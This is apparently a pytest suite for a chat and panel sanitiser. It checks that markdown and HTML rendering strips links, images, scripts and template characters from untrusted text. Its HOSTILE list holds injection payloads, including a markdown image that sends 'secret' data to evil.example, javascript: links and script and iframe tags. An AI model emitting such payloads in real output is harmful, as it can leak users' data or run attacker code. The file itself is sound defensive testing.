"""Foreign text stays inert in the chat and in the panel."""

import re

import pytest

from advisor_ui.safety import advisor_markdown, as_html, plain_markdown

HOSTILE = [
    "![](https://evil.example/a.png?d=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "<img src=https://evil.example/a.png>",
    "<script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<https://evil.example>",
    "https://evil.example/a.png and www.evil.example and a@evil.example",
    "`![](https://evil.example)`",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$\\href{https://evil.example}{x}$$",
    "\\![](https://evil.example/a.png)",
    "!\\[](https://evil.example/a.png)",
    "![a\nb](https://evil.example/a.png)",
    "![a](https://evil.example/(a).png)",
    "![[nested]](https://evil.example/a.png)",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "![](https://evil.exam",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("render", [plain_markdown, advisor_markdown, lambda text: advisor_markdown(text, {"1": "#s"})])
def test_markdown_keeps_nothing_that_loads_links_or_runs(render, text):
    shown = render(text)
    assert not re.search(r"[<`\[\]$@]", shown)
    assert "://" not in shown
    assert "www." not in shown


@pytest.mark.parametrize("text", [*HOSTILE, "${1+1} {{value}} \"'"])
def test_html_is_escaped_for_content_attributes_and_templates(text):
    shown = as_html(text)
    assert not re.search(r"[<>\"'{}$`]", shown)


def test_users_words_show_as_typed():
    typed = "# Not a heading\n1. not a list\n- nor this\n    nor code *stars* and snake_case"
    shown = plain_markdown(typed)
    assert not re.search(r"^(#|1\.|-|\s)", shown, flags=re.MULTILINE)
    assert "*" not in shown
    assert "_" not in shown


def test_ordinary_prose_passes_unchanged():
    prose = "We're a bank; our team (twelve people) runs models. Should we outsource it?"
    assert plain_markdown(prose) == prose
    assert advisor_markdown(prose) == prose


def test_the_advisors_formatting_stays():
    text = "**Staff augmentation.**\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert advisor_markdown(text) == text


def test_known_marks_link_to_their_source_and_others_do_not():
    shown = advisor_markdown("Exit terms [1] and [2].", {"1": "#source-3-1"})
    assert shown == "Exit terms [1](#source-3-1) and &#91;2&#93;."


def test_a_mark_before_brackets_takes_no_address_from_the_text():
    shown = advisor_markdown("See [1](https://evil.example).", {"1": "#source-1-1"})
    assert shown.startswith("See [1](#source-1-1)(https&#58;//")


def test_images_are_named_as_removed():
    assert advisor_markdown("![a chart](https://evil.example/c.png)") == "(image removed: a chart)"


def test_characters_that_hide_or_turn_text_are_dropped():
    assert as_html("a\u202eb\x00c") == "abc"
